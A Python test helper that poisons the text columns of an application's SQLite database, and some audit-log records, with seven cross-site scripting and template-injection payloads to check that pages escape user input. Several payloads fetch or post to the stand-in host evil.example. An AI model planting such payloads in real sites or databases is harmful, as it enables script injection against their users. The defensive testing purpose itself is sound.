"""Seven texts that would run, post or fetch if a page took them for more than text, in every column people fill."""

import json
import re
import sqlite3
import zlib
from pathlib import Path

from sqlalchemy import Text

from data.store.schema import metadata

MARK = "evil.example"
PAYLOADS = (
    "<script>window.canary=1;fetch('http://evil.example/1')</script>",
    "<img src=\"http://evil.example/2.png\" onerror=\"window.canary=2\">",
    "<iframe srcdoc=\"<script>parent.canary=3</script>\"></iframe>evil.example",
    "<form action=\"http://evil.example/4\"><input name=p><button>登录</button></form>",
    "[点我](javascript:window.canary=5) ![x](http://evil.example/5.png)",
    "\"'><svg onload=\"window.canary=6\"><a href=\"javascript:window.canary=6\">evil.example</a>",
    "{{constructor.constructor('window.canary=7')()}}${window.canary=7}$\\href{javascript:window.canary=7}{x}$"
    "<style>@import 'http://evil.example/7.css'</style>",
)  # fmt: skip
FILLED = {
    "account": ["name"],
    "alert": ["owner", "sentence"],
    "alert_event": ["note"],
    "arrears_item": ["debtor", "creditor", "subject_matter", "contract", "reporter"],
    "arrears_payment": ["voucher", "reporter"],
    "arrears_plan": ["reporter"],
    "case_event": ["note"],
    "case_file": ["title", "owner", "waived", "silenced_why"],
    "confirmation": ["found", "reason", "because", "answered_by"],
    "contingency_drill": ["content", "note", "reporter"],
    "contingency_plan": ["actions", "lead", "reporter"],
    "dispatch_balance": ["reason"],
    "dispatch_line": ["reason"],
    "enterprise": ["name", "contact", "phone", "reporter"],
    "entity": ["name", "township", "reporter"],
    "entity_breakdown": ["township"],
    "entity_count": ["reporter"],
    "evidence": ["said", "filename"],
    "held_file": ["filename"],
    "liaison_officer": ["officer", "department", "reporter"],
    "liaison_visit": ["finding", "reporter"],
    "market": ["name", "township", "reporter"],
    "market_status": ["reason", "reporter"],
    "measure_progress": ["note", "evidence", "reporter"],
    "outbox": ["title", "body", "failure"],
    "plan_opening": ["note"],
    "price_report": ["unit", "signer", "situation", "taken", "next_steps"],
    "problem": ["entity", "contact", "title", "detail", "owner", "answer"],
    "problem_event": ["note"],
    "scenario": ["assumption", "judged_why", "retired_why"],
    "source_file": ["filename", "reporter"],
    "submission": ["reason"],
    "supply": ["reporter"],
}
"""Table -> its columns that hold what somebody typed (or a sentence made of it)."""
CODES = frozenset(re.findall(r"\w+", """
    action actor added_by address baseline_state body_sha256 came_true categories category cause channel closed_by
    config_hash county credit_code creditor_size debtor_kind duty ended_by enterprise fact fingerprint from_county
    hash header indicator issued_by item judged_by key kind known_by level made_by market measure media message
    name need object_id object_kind offered outlook owner password_hash previous_hash receipt receiver recheck
    replaced_by reporter result retired_by reviewed_by role saved_by section sender severity sha256 silenced_by
    size source stage state status subject target template to_county token_hash topic trigger uid unit way
"""))  # fmt: skip
"""Names of columns that hold a code, a number, a name of ours or an account, wherever they are not named above."""
KEPT_EMPTY = {"waived", "silenced_why", "judged_why", "retired_why"}
"""What being filled says something of the row; only what is filled already is changed."""


def classified() -> tuple[int, int, list[str]]:
    """How many text columns people fill, how many hold codes, and those nobody has told apart yet."""
    filled = codes = 0
    unknown = []
    for table in metadata.sorted_tables:
        for column in table.columns:
            if not isinstance(column.type, Text):
                continue
            if column.name in FILLED.get(table.name, ()):
                filled += 1
            elif column.name in CODES:
                codes += 1
            else:
                unknown.append(f"{table.name}.{column.name}")
    return filled, codes, unknown


def poisoned(text: str | None) -> str:
    """The text with one of the seven behind it; the same text gets the same one, so that names still agree."""
    return f"{text or ''}{PAYLOADS[zlib.crc32((text or '').encode()) % len(PAYLOADS)]}"


def poison(database: Path) -> int:
    """Fill the columns of an SQLite file in place; how many cells it were."""
    cells = 0
    conn = sqlite3.connect(database)
    conn.create_function("poisoned", 1, poisoned, deterministic=True)
    conn.create_function("spread", 1, lambda n: poisoned(str(n))[len(str(n)) :], deterministic=True)
    for (name,) in conn.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
        conn.execute(f"DROP TRIGGER {name}")  # they refuse to rewrite what happened, which is what is done here
    for table, columns in FILLED.items():
        for column in columns:
            known = f"{column} IS NOT NULL"
            cells += conn.execute(f"UPDATE {table} SET {column} = poisoned({column}) WHERE {known}").rowcount
            if metadata.tables[table].c[column].nullable and column not in KEPT_EMPTY:
                cells += conn.execute(f"UPDATE {table} SET {column} = spread(rowid) WHERE {column} IS NULL").rowcount
    cells += _documents(conn)
    conn.commit()
    conn.close()
    return cells


def _documents(conn: sqlite3.Connection) -> int:
    """Names inside documents: who was told of a price, what was asked about a held file, what a form holds."""
    said = json.dumps(list(PAYLOADS), ensure_ascii=False)
    cells = conn.execute("UPDATE price_report SET recipients = ?", [said]).rowcount
    for number, text in enumerate(PAYLOADS):
        detail = {"filename": text, "reason": text, "name": text, "note": text, "address": text}
        conn.execute(
            "INSERT INTO event (at, actor, action, object_kind, object_id, county, detail, previous_hash, hash)"
            " VALUES (?, ?, ?, ?, ?, NULL, ?, ?, ?)",
            ["2030-01-01T00:00:00.000000", text, "export", "export", text, json.dumps(detail), f"p{number}",
             f"h{number}"],
        )  # fmt: skip
        cells += 7
    return cells
